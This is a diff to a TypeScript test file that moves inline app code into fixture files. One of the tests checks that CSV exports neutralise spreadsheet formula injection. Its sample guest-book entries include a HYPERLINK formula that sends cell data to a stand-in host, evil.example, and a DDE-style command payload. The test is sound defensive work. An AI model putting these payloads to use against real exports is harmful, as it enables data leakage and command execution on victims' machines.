@@ -4,8 +4,10 @@
  */
 import { describe, expect, it } from "vitest";
 import type { KvPage, RowsResponse } from "../../../shared/data";
+import kvValues from "../fixtures/apps/kv-values.ts?raw";
+import starEntries from "../fixtures/apps/star-entries.ts?raw";
 import { exportOf, json, numbers, rows, sql, tables, version } from "../support/data-helpers";
-import { api, app, appWith, call, createProject, deploy, on } from "../support/helpers";
+import { api, app, call, createProject, deploy, on } from "../support/helpers";
 
 /** A download's text, or its first `maxLines` lines and no more (an export that never ends is cut here). */
 async function readAtMost(response: Response, maxLines: number): Promise<string> {
@@ -100,15 +102,7 @@ describe("export", () => {
   it("neutralises visitors' formulas in CSV (OWASP's CSV injection); JSON keeps them exact", async () => {
     // A guest book: visitors sign it with whatever they like, the owner downloads the entries.
     const p = await createProject();
-    await deploy(
-      p,
-      appWith(`    this.ctx.storage.sql.exec("CREATE TABLE IF NOT EXISTS entries (id INTEGER PRIMARY KEY, name TEXT, stars INTEGER)");
-    if (request.method === "POST") {
-      const { name, stars } = await request.json<{ name: string; stars: number }>();
-      this.ctx.storage.sql.exec("INSERT INTO entries (name, stars) VALUES (?, ?)", name, stars);
-    }
-    return new Response("thanks");`),
-    );
+    await deploy(p, { "app.ts": starEntries });
     const entries = [
       '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
       "+cmd|' /C calc'!A0",
@@ -167,16 +161,7 @@ describe("live", () => {
 describe("storage.kv", () => {
   it("lists the app's pairs with their types, and puts and deletes them", async () => {
     const p = await createProject();
-    await deploy(
-      p,
-      appWith(`    const kv = this.ctx.storage.kv;
-    kv.put("config", { theme: "dark", size: 3 });
-    kv.put("count", 7);
-    kv.put("when", new Date(0));
-    kv.put("bytes", new Uint8Array([1, 2, 255]));
-    kv.put("long", "y".repeat(3000));
-    return Response.json(kv.get("edited") ?? null);`),
-    );
+    await deploy(p, { "app.ts": kvValues });
     const before = await version(p);
     await app(p, "/");
     expect(await version(p)).not.toBe(before);
